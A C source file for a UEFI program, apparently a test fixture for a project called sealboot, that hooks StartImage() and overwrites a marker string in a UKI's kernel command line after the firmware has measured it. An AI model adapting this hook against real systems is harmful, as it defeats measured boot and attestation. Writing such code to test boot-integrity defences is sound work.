/* SPDX-License-Identifier: Apache-2.0 */

/* A UEFI program of an instance's operator, which the firmware starts before the UKI: from Driver####, SysPrep#### or a
 * boot option. It hooks StartImage(), and once the firmware has loaded and measured the UKI, it writes INSERTED over
 * FOUND in the UKI's memory: the kernel's command line changes after its measurement. */

#include "efi.h"

#ifndef APPLICATION
#define APPLICATION 0
#endif
#ifndef FOUND
#define FOUND "sealboot.build=tiny"
#define INSERTED "sealboot.build=evil"
#endif

_Static_assert(sizeof FOUND == sizeof INSERTED, "what is written is as long as what was there");

static efi_status (*start_image)(efi_handle image, uint64_t *size, uint16_t **data);
static struct efi_boot_services *services;

static void rewrite(uint8_t *image, uint64_t size) {
        static const char found[] = FOUND, inserted[] = INSERTED;

        for (uint64_t i = 0; i + sizeof found <= size; i++) {
                uint64_t n = 0;

                while (n < sizeof found - 1 && image[i + n] == (uint8_t) found[n])
                        n++;
                if (n < sizeof found - 1)
                        continue;
                for (n = 0; n < sizeof found - 1; n++)
                        image[i + n] = (uint8_t) inserted[n];
                put_text("\noperator: the command line is rewritten\n");
        }
}

static efi_status started(efi_handle image, uint64_t *size, uint16_t **data) {
        static const struct efi_guid guid = EFI_LOADED_IMAGE_GUID;
        struct efi_loaded_image *loaded;

        if (services->handle_protocol(image, &guid, (void **) &loaded) == 0)
                rewrite(loaded->image_base, loaded->image_size);
        return start_image(image, size, data);
}

efi_status efi_main(efi_handle image, struct efi_system_table *system) {
        (void) image;
        put_text("\noperator: runs before the UKI\n");
        if (APPLICATION) /* unloaded when it returns, and what it hooked with it */
                return 0;
        services = system->boot;
        start_image = services->start_image;
        services->start_image = started;
        return 0;
}
